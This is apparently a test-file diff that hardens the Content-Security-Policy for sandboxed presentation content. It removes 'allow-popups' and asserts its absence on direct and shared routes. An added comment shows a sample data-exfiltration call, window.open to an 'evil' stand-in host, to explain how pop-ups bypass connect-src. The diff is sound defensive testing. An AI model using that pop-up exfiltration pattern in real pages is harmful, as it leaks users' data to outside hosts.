@@ -58,8 +58,10 @@ describe('content routes', () => {
       expect(response.body).toBe(HTML);
       const csp = String(response.headers['content-security-policy']);
       expect(csp).toBe(PRESENTATION_CSP);
-      expect(csp).toMatch(/^sandbox allow-scripts allow-popups allow-modals;/);
+      expect(csp).toMatch(/^sandbox allow-scripts allow-modals;/);
       expect(csp).not.toContain('allow-same-origin');
+      // A pop-up escapes the sandbox's connect-src and form-action: window.open('https://evil/?' + data).
+      expect(csp).not.toContain('allow-popups');
       expect(csp).toContain("connect-src 'none'");
       expect(csp).toContain("form-action 'none'");
     }
@@ -81,6 +83,7 @@ describe('content routes', () => {
     const shared = await get('/content/shared/pres-1');
     expect(shared.statusCode).toBe(200);
     expect(shared.headers['content-security-policy']).toBe(PRESENTATION_CSP);
+    expect(shared.headers['content-security-policy']).not.toContain('allow-popups');
     await server.database.db.update(presentations).set({ shareEnabled: false }).where(eq(presentations.id, 'pres-1'));
     expect((await get('/content/shared/pres-1')).statusCode).toBe(404);
   });
